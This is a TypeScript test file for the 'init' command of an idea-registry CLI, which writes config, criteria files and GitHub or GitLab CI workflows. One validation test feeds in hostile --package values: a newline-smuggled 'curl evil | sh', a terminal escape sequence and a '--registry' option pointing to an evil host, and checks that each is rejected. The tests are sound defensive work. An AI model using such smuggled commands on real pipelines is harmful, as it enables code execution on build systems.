import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Ctx } from '../context.js';
import type { Lang } from '../core/i18n/i18n.js';
import { TEMPLATES } from '../core/scaffold/templates.js';
import { slugify } from '../core/sluice/slug.js';
import { loadRegistry } from '../io/registry.js';
import { ScriptedPrompter } from '../ui/prompter.js';
import { git } from '../../test/helpers/temp-repo.js';
import { runInit, type InitOptions } from './init.js';
import { failure } from '../../test/helpers/errors.js';

const examples = fileURLToPath(new URL('../../examples/', import.meta.url));
const pkg = JSON.parse(fs.readFileSync(new URL('../../package.json', import.meta.url), 'utf8')) as {
  name: string;
  version: string;
};
const OWN_SPEC = `${pkg.name}@${pkg.version}`;
const github = (file: string, status = 'written', spec = OWN_SPEC) => ({
  file,
  status,
  provider: 'github',
  package: spec,
});

let dir: string;
beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ideas-'));
});
afterEach(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

function ctx(prompter = new ScriptedPrompter([]), env: NodeJS.ProcessEnv = {}): Ctx {
  return {
    cwd: dir,
    env,
    stdout: { write: () => true },
    stderr: { write: () => true },
    stdinIsTTY: true,
    prompter: async () => prompter,
    clock: () => new Date('2026-11-23T12:00:00Z'),
  };
}

/** Every file and folder under `root`, with the contents of the files. */
function tree(root: string): Record<string, string | null> {
  const out: Record<string, string | null> = {};
  for (const rel of fs.readdirSync(root, { recursive: true, encoding: 'utf8' }).sort()) {
    const abs = path.join(root, rel);
    out[rel.split(path.sep).join('/')] = fs.statSync(abs).isDirectory() ? null : fs.readFileSync(abs, 'utf8');
  }
  return out;
}

describe('runInit', () => {
  it.each(TEMPLATES.flatMap((t) => (['sv', 'en'] as Lang[]).map((lang) => [t.key, lang] as const)))(
    'writes the %s template in %s: config, criteria and a folder per stage',
    async (key, lang) => {
      const template = TEMPLATES.find((t) => t.key === key);
      const r = await runInit({ dir: 'reg', template: key, lang }, ctx());
      const root = path.join(dir, 'reg');
      const registry = loadRegistry(root, 'en');
      const { config } = registry;
      expect({ root: r.root, template: r.template, lang: r.lang, name: r.name }).toEqual({
        root,
        template: key,
        lang,
        name: template?.name[lang],
      });
      expect({ language: config.language, name: config.name }).toEqual({ language: lang, name: template?.name[lang] });
      const expected = [
        'ideas.config.yaml',
        ...config.stages.flatMap((s) => [s.criteria, `${config.ideasDir}/${s.folder}/.gitkeep`]),
        '.github/workflows/ideas.yml',
        '.gitignore',
      ];
      expect([...r.files].sort()).toEqual([...expected].sort());
      const written = Object.entries(tree(root))
        .filter(([, content]) => content !== null)
        .map(([rel]) => rel);
      expect(written.sort()).toEqual([...expected].sort());
      for (const stage of config.stages) {
        expect(fs.readFileSync(path.join(root, stage.criteria), 'utf8')).toBe(
          fs.readFileSync(path.join(examples, template?.example ?? '', stage.criteria), 'utf8'),
        );
      }
      const exampleConfig = loadRegistry(path.join(examples, template?.example ?? ''), 'en').config;
      const folderless = (stages: typeof config.stages) => stages.map((s) => ({ ...s, folder: '' }));
      expect(folderless(config.stages)).toEqual(folderless(exampleConfig.stages));
      // A Swedish registry keeps the example's folders; an English one names each by its number and English label.
      expect(config.stages.map((s) => s.folder)).toEqual(
        exampleConfig.stages.map((s) => (lang === 'sv' ? s.folder : `${s.folder.slice(0, 3)}${slugify(s.label.en)}`)),
      );
      expect(config.idPrefix).toBe(template?.idPrefix?.[lang] ?? exampleConfig.idPrefix);
      expect(r.ci).toEqual(github('.github/workflows/ideas.yml'));
      const workflow = fs.readFileSync(path.join(root, '.github/workflows/ideas.yml'), 'utf8');
      expect(workflow).toContain('ideas validate --changed --format github\n');
      expect(workflow).toContain(lang === 'sv' ? '# Kontrollerar idéslussen' : '# Checks the idea sluice');
    },
  );

  it('writes no workflow with --no-ci', async () => {
    const r = await runInit({ template: 'minimal', ci: false }, ctx());
    expect(r.ci).toEqual({ file: null, status: 'off', provider: null, package: null });
    expect(r.files).not.toContain('.github/workflows/ideas.yml');
    expect(fs.existsSync(path.join(dir, '.github'))).toBe(false);
  });

  it('keeps a workflow that is already there, says so, and writes the registry', async () => {
    fs.mkdirSync(path.join(dir, '.github/workflows'), { recursive: true });
    fs.writeFileSync(path.join(dir, '.github/workflows/ideas.yml'), 'mine\n');
    const r = await runInit({ template: 'minimal' }, ctx());
    expect(r.ci).toEqual(github('.github/workflows/ideas.yml', 'exists'));
    expect(r.files).not.toContain('.github/workflows/ideas.yml');
    expect(fs.readFileSync(path.join(dir, '.github/workflows/ideas.yml'), 'utf8')).toBe('mine\n');
    expect(fs.existsSync(path.join(dir, 'ideas.config.yaml'))).toBe(true);
  });

  it('puts the workflow at the top of the git work tree, naming a registry in a subfolder with --registry', async () => {
    git(['init', '-q', '-b', 'main'], dir);
    const r = await runInit({ dir: 'kommuner/sundsvall', template: 'minimal', lang: 'en' }, ctx());
    expect(r.ci).toEqual(github('../../.github/workflows/ideas.yml'));
    expect(r.files).toContain('../../.github/workflows/ideas.yml');
    const workflow = fs.readFileSync(path.join(dir, '.github/workflows/ideas.yml'), 'utf8');
    expect(workflow).toContain('      - kommuner/sundsvall/**\n');
    expect(workflow).toContain('run: ideas validate --changed --format github --registry kommuner/sundsvall\n');
    expect(fs.existsSync(path.join(dir, 'kommuner/sundsvall/.github'))).toBe(false);
  });

  it('pins the workflow to this package at the running version', async () => {
    await runInit({ template: 'minimal' }, ctx());
    const workflow = fs.readFileSync(path.join(dir, '.github/workflows/ideas.yml'), 'utf8');
    expect(workflow).toContain(`  IDEAS_PACKAGE: ${OWN_SPEC}\n`);
    expect(OWN_SPEC).toMatch(/^idesluss@\d+\.\d+\.\d+/);
  });

  it('writes the spec given with --package instead', async () => {
    const spec = 'git+https://github.com/kommun/ideas.git#0123456789abcdef0123456789abcdef01234567';
    const r = await runInit({ template: 'minimal', package: spec }, ctx());
    expect(r.ci).toEqual(github('.github/workflows/ideas.yml', 'written', spec));
    const workflow = fs.readFileSync(path.join(dir, '.github/workflows/ideas.yml'), 'utf8');
    expect(workflow).toContain(`  IDEAS_PACKAGE: ${spec}\n`);
    expect(workflow).not.toContain(OWN_SPEC);
  });

  it('writes .gitlab-ci.yml with --ci gitlab, and no GitHub workflow', async () => {
    git(['init', '-q', '-b', 'main'], dir);
    const r = await runInit({ dir: 'reg', template: 'minimal', ci: 'gitlab', package: 'file:vendor/x.tgz' }, ctx());
    expect(r.ci).toEqual({
      file: '../.gitlab-ci.yml',
      status: 'written',
      provider: 'gitlab',
      package: 'file:vendor/x.tgz',
    });
    const job = fs.readFileSync(path.join(dir, '.gitlab-ci.yml'), 'utf8');
    expect(job).toContain('    IDEAS_PACKAGE: file:vendor/x.tgz\n');
    expect(job).toContain('ideas diff --registry reg || failed=1');
    expect(fs.existsSync(path.join(dir, '.github'))).toBe(false);
  });

  it('keeps a .gitlab-ci.yml that is there, and says so', async () => {
    fs.writeFileSync(path.join(dir, '.gitlab-ci.yml'), 'mine\n');
    const r = await runInit({ template: 'minimal', ci: 'gitlab' }, ctx());
    expect(r.ci).toEqual({ file: '.gitlab-ci.yml', status: 'exists', provider: 'gitlab', package: OWN_SPEC });
    expect(fs.readFileSync(path.join(dir, '.gitlab-ci.yml'), 'utf8')).toBe('mine\n');
  });

  it.each<[string, Partial<InitOptions>, RegExp]>([
    ['an unpinned --package', { package: 'idesluss@^0.1.0' }, /"idesluss@\^0\.1\.0" .*must be exact/],
    ['a --package with a newline', { package: 'idesluss@0.1.0\ncurl evil | sh' }, /0\.1\.0\\u\{a\}curl.*character/],
    ['a --package with an escape', { package: '\u001b[2Jidesluss@0.1.0' }, /"\\u\{1b\}\[2J.*character/],
    ['a --package that is an option', { package: '--registry=https://evil.example/' }, /none of the forms/],
    ['a branch of a git --package', { package: 'git+https://example.org/x.git#main' }, /full commit id/],
    ['--package with --no-ci', { package: OWN_SPEC, ci: false }, /--no-ci/],
    ['--package with --ci none', { package: OWN_SPEC, ci: 'none' }, /--no-ci/],
    ['an unknown --ci', { ci: 'travis' }, /"travis".*github, gitlab, none/],
  ])('refuses %s with USAGE, writing nothing', async (_name, opts, message) => {
    const error = await failure(runInit({ template: 'minimal', lang: 'en', ...opts }, ctx()));
    expect(error).toMatchObject({ code: 'USAGE' });
    const text = error.text;
    expect(text.en).toMatch(message);
    for (const shown of [text.sv, text.en]) {
      expect([...shown].filter((c) => (c.codePointAt(0) ?? 0) < 0x20 || /[\u007f-\u009f]/.test(c))).toEqual([]);
    }
    expect(tree(dir)).toEqual({});
  });

  it('makes a Swedish registry when no language is given', async () => {
    await runInit({ template: 'minimal' }, ctx());
    expect(loadRegistry(dir, 'en').config.language).toBe('sv');
  });

  it("asks for the template when it may prompt, in the new registry's language", async () => {
    const prompter = new ScriptedPrompter([
      { kind: 'select', message: /^Vilken mall ska idéslussen utgå från\?$/, answer: 'skaraborg' },
    ]);
    const r = await runInit({}, ctx(prompter));
    expect({
      template: r.template,
      remaining: prompter.remaining,
      prefix: loadRegistry(dir, 'en').config.idPrefix,
    }).toEqual({ template: 'skaraborg', remaining: 0, prefix: 'skb' });
  });

  it.each<[string, NodeJS.ProcessEnv, boolean | undefined]>([
    ['CI is set', { CI: 'true' }, undefined],
    ['--no-input is given', {}, false],
  ])('takes the minimal template without asking when %s', async (_name, env, input) => {
    const r = await runInit({ input }, ctx(new ScriptedPrompter([]), env));
    expect(r.template).toBe('minimal');
  });

  it('refuses an unknown template with USAGE, writing nothing', async () => {
    expect(await failure(runInit({ template: 'stockholm' }, ctx()))).toMatchObject({ code: 'USAGE' });
    expect(tree(dir)).toEqual({});
  });

  it('refuses a second init with REGISTRY_EXISTS and writes nothing', async () => {
    await runInit({ template: 'minimal' }, ctx());
    fs.writeFileSync(path.join(dir, 'ideas.config.yaml'), 'name: edited by hand\n');
    const before = tree(dir);
    expect(await failure(runInit({ template: 'sundsvall' }, ctx()))).toMatchObject({ code: 'REGISTRY_EXISTS' });
    expect(tree(dir)).toEqual(before);
  });

  it('refuses with FILE_EXISTS when a criteria file is already there, and writes nothing', async () => {
    fs.mkdirSync(path.join(dir, 'criteria'));
    fs.writeFileSync(path.join(dir, 'criteria/doing.schema.json'), '{"mine": true}\n');
    const before = tree(dir);
    const error = await failure(runInit({ template: 'minimal' }, ctx()));
    expect(error).toMatchObject({ code: 'FILE_EXISTS' });
    expect(error.message).toContain('criteria/doing.schema.json');
    expect(tree(dir)).toEqual(before);
  });
});
